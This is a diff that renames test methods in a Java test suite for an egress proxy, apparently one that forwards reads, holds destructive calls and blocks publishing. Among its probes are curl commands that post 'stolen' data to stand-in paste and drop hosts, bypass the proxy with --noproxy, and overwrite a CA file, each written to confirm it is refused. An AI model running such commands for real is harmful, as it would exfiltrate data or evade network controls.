@@ -68,7 +68,7 @@ final class ProxiedRunTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"--http1.1", "--http2"})
-    void whatIsReadIsAnsweredByTheProviderAndWhatDestroysIsHeld(String protocol) throws Exception {
+    void readsAreForwardedAndDestructionsAreHeld(String protocol) throws Exception {
         String version = protocol.equals("--http2") ? "2" : "1.1";
         assertThat(run(curl("read.json", protocol))).contains("\"data\"", "staging", "\n200 " + version);
         assertThat(run(curl("delete.json", protocol))).contains("confirmation_required", "\n403 " + version);
@@ -77,20 +77,20 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void aStrayTokenIsRefusedThereToo() throws Exception {
+    void aStrayTokenIsRefusedAtTheProxy() throws Exception {
         assertThat(run(curl("read.json", "-H 'Authorization: Bearer " + STRAY + "'")))
                 .contains("foreign_credential", "\n403");
         assertThat(installation.said()).contains("foreign").doesNotContain(STRAY);
     }
 
     @Test
-    void theLeaseInTheToolsOwnSlotIsGoodToo() throws Exception {
+    void theLeaseWorksAsTheToolsOwnToken() throws Exception {
         assertThat(run(curl("read.json", "-H \"Authorization: Bearer $INTERLOCK_LEASE\"")))
                 .contains("\n200 2");
     }
 
     @Test
-    void aHostThatNobodySealedIsRefusedInWordsAndOnRecord() throws Exception {
+    void anUnsealedHostIsRefusedWithAReasonOnRecord() throws Exception {
         assertThat(run("curl -sS -m 50 https://paste.example.net/upload -d stolen"))
                 .contains("names no upstream at `https://paste.example.net`");
         assertThat(run("curl -sS -m 50 --cacert /dev/null https://drop.example.net/"))
@@ -103,7 +103,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void thereIsStillNoOtherWayOut() throws Exception {
+    void onlyTheProxyIsReachable() throws Exception {
         assertThat(run("curl -sS -m 20 --noproxy '*' " + URL)).contains("curl: (");
         assertThat(run("curl -sS -m 20 --noproxy '*' -k https://127.0.0.1:"
                         + installation.railway().port() + "/"))
@@ -117,13 +117,13 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byWget() throws Exception {
+    void wgetWorksThroughTheProxy() throws Exception {
         assumeTrue(Programs.has("wget"), "needs wget");
         posts("wget -q --content-on-error -O - --header 'Content-Type: application/json' --post-file=%s " + URL);
     }
 
     @Test
-    void byPythonsOwnClient() throws Exception {
+    void pythonWorksThroughTheProxy() throws Exception {
         assumeTrue(Programs.has("python3"), "needs python3");
         Files.writeString(workspace.resolve("ask.py"), """
                 import sys, urllib.request, urllib.error
@@ -138,7 +138,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byNode() throws Exception {
+    void nodeWorksThroughTheProxy() throws Exception {
         assumeTrue(Programs.has("node"), "needs node");
         Files.writeString(workspace.resolve("fetch.mjs"), """
                 import { readFileSync } from 'node:fs';
@@ -158,7 +158,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byNpmWhichFetchesAndPublishesNothing() throws Exception {
+    void npmFetchesAndCannotPublish() throws Exception {
         assumeTrue(Programs.has("npm"), "needs npm");
         for (String name : List.of("plain-thing", "@some/scoped-thing")) {
             Path made = Files.createDirectories(workspace.resolve("made").resolve(name));
@@ -193,7 +193,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byGitWhichFetchesAndPushesNothing() throws Exception {
+    void gitFetchesAndCannotPush() throws Exception {
         assumeTrue(Programs.has("git"), "needs git");
         installation.git().publish("acme/site", "index.html", "<h1>fetched</h1>");
         String url = "https://" + GitHost.HOST + "/acme/site.git";
@@ -211,7 +211,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void byJavasClient() throws Exception {
+    void javaWorksThroughTheProxy() throws Exception {
         Path java = Path.of(System.getProperty("java.home"), "bin", "java");
         assumeTrue(java.startsWith("/usr"), "this Java is not visible inside");
         Files.writeString(workspace.resolve("Ask.java"), """
@@ -250,7 +250,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void atTheSharedDoorTheLeaseIsGivenToTheProxyOrInside() throws Exception {
+    void theSharedListenerAcceptsTheLeaseInTheTunnelOrForTheProxy() throws Exception {
         Programs.await("the authority is published", () -> Files.exists(published()));
         String lease = installation.lease();
         assertThat(outside("lease:" + lease + "@")).contains("\"data\"", "\n200");
@@ -263,7 +263,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void theAuthoritysKeyIsTheGatewaysAloneAndSaysWhatItIsFor() throws Exception {
+    void theAuthoritysKeyIsPrivateToTheGatewayAndNamesItsUse() throws Exception {
         Programs.await("the authority is published", () -> Files.exists(published()));
         Path key = installation.root().resolve("data/authority.key");
         assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key)))
@@ -287,7 +287,7 @@ final class ProxiedRunTest {
     }
 
     @Test
-    void aPlacesAuthorityIsOfNoUseElsewhere() throws Exception {
+    void aPlacesAuthorityIsUselessElsewhere() throws Exception {
         assertThat(run("cat /run/interlock/authority.pem > mine.pem; echo x > /run/interlock/authority.pem"
                         + " || echo kept"))
                 .contains("kept");
